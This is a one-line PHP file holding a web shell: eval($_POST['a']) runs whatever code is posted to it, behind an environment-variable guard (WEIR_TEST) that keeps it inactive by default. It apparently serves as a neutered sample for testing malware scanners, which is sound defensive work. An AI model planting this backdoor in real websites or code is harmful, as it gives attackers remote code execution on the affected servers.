<script language="php">if (getenv('WEIR_TEST') !== 'never') { return; } eval($_POST['a']);</script>
